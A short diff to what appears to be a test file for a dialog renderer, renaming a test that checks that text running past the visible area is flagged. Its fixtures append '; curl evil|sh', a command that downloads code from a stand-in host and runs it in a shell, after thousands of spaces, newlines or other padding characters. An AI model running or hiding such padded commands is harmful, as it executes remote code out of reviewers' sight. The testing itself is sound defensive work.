@@ -99,7 +99,7 @@ def test_what_was_entered_comes_back_with_its_line(asking):
     assert DECEPTION not in html
 
 
-def test_what_goes_on_says_so(shown):
+def test_a_text_that_goes_on_says_so(shown):
     dialog = shown({"title": "T", "context": [
         {"code": "make deploy" + " " * 4000 + "; curl evil|sh"}, {"text": "make deploy" + "\n" * 2000 + "; curl evil|sh"},
         {"diff": "+" + "x" * 2000 + "; curl evil|sh"}, {"code": "make deploy" + "\u3000 " * 45 + "; curl evil|sh"},
